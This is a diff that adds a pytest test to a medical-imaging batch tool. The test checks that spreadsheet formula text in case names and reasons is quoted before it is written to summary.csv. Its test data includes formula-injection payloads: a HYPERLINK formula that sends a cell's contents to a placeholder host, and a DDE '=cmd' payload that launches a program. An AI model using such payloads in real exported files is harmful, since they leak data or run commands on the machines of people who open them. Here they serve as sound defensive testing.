@@ -227,3 +227,23 @@ def test_measure_takes_body_data_from_the_subjects_row_and_the_heart_rate_from_t
     half = _measure(out, BatchOptions(out_dir=tmp_path, measure=True, subjects=(Subject("p7", 180.0),)), "p7_cine")
     assert half["cohort_row"]["bsa_m2"] == "" and half["measure_note"].startswith("no BSA or indexed values: a height and no weight")
     assert _measure(out, BatchOptions(out_dir=tmp_path, measure=True, subjects=rows), "p7_cine")["measure_note"] == ""
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
+    """A file or case named like a formula ("=HYPERLINK(...)", "@SUM(A1)") reached summary.csv
+    as it was, and a spreadsheet opening the cohort ran it; such text cells now start with ',
+    while numbers (negative ones too) stay numbers."""
+    import csv
+
+    from medseg._files import csv_text
+    from medseg.batch.cohort import write_summary
+
+    text = csv_text(["case", "value", "note"], [{"case": '=HYPERLINK("http://x/?"&A1,"click")', "value": -3.5, "note": "-2"},
+                                                {"case": "@SUM(A1)", "value": 1.0, "note": "+x"}])
+    rows = list(csv.DictReader(text.splitlines()))
+    assert [r["case"] for r in rows] == ["'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'@SUM(A1)"]
+    assert [r["value"] for r in rows] == ["-3.5", "1.0"] and [r["note"] for r in rows] == ["-2", "'+x"]
+    res = {"case": "=1+1", "status": "failed", "reason": "=cmd|' /C calc'!A0", "seconds": 0.1, "output": "", "input": "/in/=1+1.nii.gz"}
+    csv_path, _ = write_summary(tmp_path, [res])
+    (row,) = list(csv.DictReader(csv_path.read_text().splitlines()))
+    assert row["case"] == "'=1+1" and row["reason"].startswith("'=cmd")
